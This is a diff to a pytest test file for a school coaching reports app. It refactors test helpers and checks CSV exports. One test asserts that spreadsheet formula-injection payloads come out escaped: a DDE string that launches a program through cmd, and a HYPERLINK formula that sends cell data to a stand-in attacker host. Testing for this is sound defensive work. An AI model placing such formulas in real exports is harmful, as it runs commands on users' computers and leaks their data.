@@ -8,35 +8,9 @@ from django.test.utils import CaptureQueriesContext
 
 from coaching.models import ReportSnapshot
 from tests import factories
+from tests.reports.scenarios import closed_cycle
 
 pytestmark = pytest.mark.django_db
-
-
-def closed_cycle(school, area_name="Instruction", outcome="met", teacher=None):
-    partnership = factories.PartnershipFactory(
-        school=school, teachers=[teacher] if teacher else None
-    )
-    today = school.today()
-    cycle = factories.CycleFactory(
-        partnership=partnership,
-        phase="closed",
-        outcome=outcome,
-        started_on=today - datetime.timedelta(days=40),
-        ended_on=today - datetime.timedelta(days=5),
-    )
-    cycle.focus_area = cycle.focus_area.district.focus_areas.get(name=area_name)
-    cycle.save()
-    return cycle
-
-
-@pytest.fixture
-def year_terms(district, today):
-    factories.TermFactory(
-        district=district,
-        name="This term",
-        starts_on=today - datetime.timedelta(days=80),
-        ends_on=today + datetime.timedelta(days=30),
-    )
 
 
 def test_the_school_administrators_home_is_the_report(client_for, school_admin, school):
@@ -84,26 +58,6 @@ def test_k_or_more_teachers_shows_the_figure(
     instruction = next(r for r in figures["outcomes"]["rows"] if r["heading"] == "Instruction")
     assert instruction["total"] == {"value": 4, "hidden": ""}
     assert instruction["met_rate"] == 100
-
-
-def test_the_export_holds_exactly_what_the_page_shows(
-    client_for, school_admin, school, year_terms, settings
-):
-    settings.REPORT_MIN_GROUP = 3
-    for outcome in ("met", "met", "met", "not_met"):
-        closed_cycle(school, "Instruction", outcome)
-    client = client_for(school_admin)
-    page = client.get("/school/").text
-    export = client.get(f"/reports/schools/{school.pk}/export.csv")
-    assert export["Content-Type"].startswith("text/csv")
-    rows = list(csv.reader(io.StringIO(export.content.decode())))
-    assert rows[0] == ["section", "row", "column", "value"]
-    values = {(r[0], r[1], r[2]): r[3] for r in rows[1:]}
-    assert values[("Outcomes by focus area", "Instruction", "Goal not met")] == "fewer than 3"
-    assert values[("Teachers taking part", "", "count")] == "4"
-    for (section, _, _), value in values.items():
-        if section != "Period" and value not in ("—", "hidden", "None"):
-            assert str(value) in page
 
 
 def test_no_teacher_is_named_in_a_report_or_its_export(
@@ -204,7 +158,7 @@ def test_no_cell_of_an_export_can_run_as_a_formula(
     factories.ActivityEntryFactory(coach=coach, school=school, minutes=30)
     client = client_for(school_admin)
     client.post(f"/reports/schools/{school.pk}/refresh/", {"period": "this_term"})
-    export = client.get(f"/reports/schools/{school.pk}/export.csv").content.decode()
+    export = client.get(f"/reports/schools/{school.pk}/export.csv").content.decode("utf-8-sig")
     cells = [cell for row in csv.reader(io.StringIO(export)) for cell in row]
     assert "'=cmd|' /C calc'!A0" in cells
     assert '\'=HYPERLINK("http://evil.example/?"&A1,"x")' in cells
